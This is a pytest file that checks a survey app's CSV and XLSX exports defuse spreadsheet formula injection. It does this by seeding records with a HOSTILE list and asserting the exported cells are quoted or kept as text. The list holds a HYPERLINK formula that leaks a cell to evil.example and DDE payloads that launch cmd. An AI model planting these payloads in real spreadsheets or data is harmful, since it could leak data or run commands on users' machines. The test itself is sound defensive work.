"""Text typed by volunteers or imported never runs as a formula in an exported CSV or XLSX."""

import csv
import io
import zipfile
from datetime import date

import pytest

from aggregation.documents.csv import spreadsheet_safe
from survey_app.extensions import db
from tests import builders
from tests.exports.support import load

BOM = b"\xef\xbb\xbf"
HOSTILE = (
    '=HYPERLINK("http://evil.example/?d="&A1,"Xem")',
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_world(sqlite_world):
    """Households whose head, address and members carry formulas (as a volunteer could push)."""
    for n, text in enumerate(HOSTILE):
        household = builders.make_household(
            sqlite_world.thon1, f"F-{n}", text, dia_chi=text, so_dien_thoai="+84912345678"
        )
        builders.make_person(household, text, date(1980, 1, 1), dt_thong_minh=True, quan_he=text)
    db.session.commit()
    return sqlite_world


def _cells(data: bytes) -> list[str]:
    """Every cell of a CSV, or of every CSV in a zip."""
    if zipfile.is_zipfile(io.BytesIO(data)):
        archive = zipfile.ZipFile(io.BytesIO(data))
        return [cell for name in archive.namelist() for cell in _cells(archive.read(name))]
    assert data.startswith(BOM)
    text = data[len(BOM) :].decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def test_no_csv_cell_starts_like_a_formula(hostile_world, export_bytes):
    for options in ({"codes": ("3.4",)}, {"complement": True}):
        data, _ = export_bytes(hostile_world, "csv", **options)
        cells = _cells(data)
        assert not [cell for cell in cells if cell.startswith(FORMULA_START)], options
        joined = "\n".join(cells)
        for text in HOSTILE:  # kept, readable, one quote in front
            assert "'" + text in joined, text


def test_spreadsheet_safe_is_owasps_rule():
    assert [spreadsheet_safe(t) for t in HOSTILE] == ["'" + t for t in HOSTILE]
    assert spreadsheet_safe("Nguyễn Văn A") == "Nguyễn Văn A"
    assert spreadsheet_safe("a=1") == "a=1" and spreadsheet_safe(-3) == -3
    assert spreadsheet_safe("") == ""


def test_xlsx_keeps_formula_like_text_as_text(hostile_world, export_bytes):
    data, _ = export_bytes(hostile_world, "xlsx", complement=True)
    book = load(data)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert {"=1+1", "+1+1", "-2+3"} <= seen  # the hostile text is there, as text
